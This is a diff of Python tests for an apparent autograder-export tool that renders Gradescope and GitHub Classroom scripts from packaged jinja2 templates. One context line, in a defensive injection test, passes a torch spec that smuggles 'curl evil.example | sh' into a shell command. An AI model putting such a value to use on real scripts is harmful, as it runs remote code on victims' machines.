@@ -108,6 +108,30 @@ def test_setup_refuses_torch_specs_a_shell_would_act_on():
         export.render_setup_sh(torch_spec="torch; curl evil.example | sh")
 
 
+def test_scripts_and_workflow_come_from_packaged_template_files():
+    """setup.sh, run_autograder, the workflow and its grading step are jinja2 templates under
+    checker/templates/, and pyproject's package-data ships every file there."""
+    import fnmatch
+    import tomllib
+    templates = {p.name for p in export.TEMPLATES.iterdir() if p.is_file()}
+    assert {"gradescope_setup.sh.j2", "gradescope_run_autograder.sh.j2", "classroom.yml.j2",
+            "classroom_grade.sh.j2"} <= templates
+    pyproject = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
+    globs = pyproject["tool"]["setuptools"]["package-data"]["checker"]
+    for name in templates:
+        assert any(fnmatch.fnmatch(f"templates/{name}", g) for g in globs), (name, globs)
+    rendered = [export.render_setup_sh(), export.render_run_autograder(max_score=3),
+                export.render_classroom_workflow(SPEC), export.classroom_grade_script()]
+    for text in rendered:
+        assert not any(mark in text for mark in ("<@", "@>", "<%", "%>")), text
+
+
+def test_a_template_value_left_out_is_an_error():
+    import jinja2
+    with pytest.raises(jinja2.UndefinedError):
+        export.render_template("gradescope_run_autograder.sh.j2", source_dir="x")
+
+
 def _copy_tree(root: Path) -> Path:
     for name, path in export.source_files(ROOT):
         dest = root / name
@@ -401,7 +425,7 @@ def test_workflow_has_what_classroom_and_its_reporter_need(tmp_path):
     # The grading step's id names the runner; the reporter reads <ID upper-cased>_RESULTS.
     step = lines.index(f"        id: {export.CLASSROOM_RUNNER_ID}")
     assert lines[step + 1] == "        run: |"
-    expected_script = export.CLASSROOM_GRADE_SCRIPT.splitlines()
+    expected_script = export.classroom_grade_script().splitlines()
     script = [line.removeprefix("          ") for line in lines[step + 2:step + 2 + len(expected_script)]]
     assert script == expected_script
     assert any("kata grade" in l and "--format exercism" in l for l in script)
@@ -536,9 +560,10 @@ def test_the_workflow_grading_step_feeds_the_reporter(tmp_path):
            "TORCHKATA_EXERCISES": "exercises", "TORCHKATA_SEED": "7",
            # The sandbox is exercised by the Gradescope run above; this test is about the hand-off.
            "TORCHKATA_GRADE_ARGS": f"{kata_args(GATHER, LAYERNORM)} --isolation none",
-           "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
-    env.pop("PYTHONPATH", None)
-    proc = subprocess.run(["bash", "-e", "-o", "pipefail", "-c", export.CLASSROOM_GRADE_SCRIPT], cwd=repo, env=env,
+           "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}",
+           # `kata` is the venv's entry point; this checkout, not wherever the install points, grades.
+           "PYTHONPATH": str(ROOT)}
+    proc = subprocess.run(["bash", "-e", "-o", "pipefail", "-c", export.classroom_grade_script()], cwd=repo, env=env,
                           capture_output=True, text=True, timeout=300)
     assert proc.returncode == 0, proc.stdout + proc.stderr
     result = read_output(output)
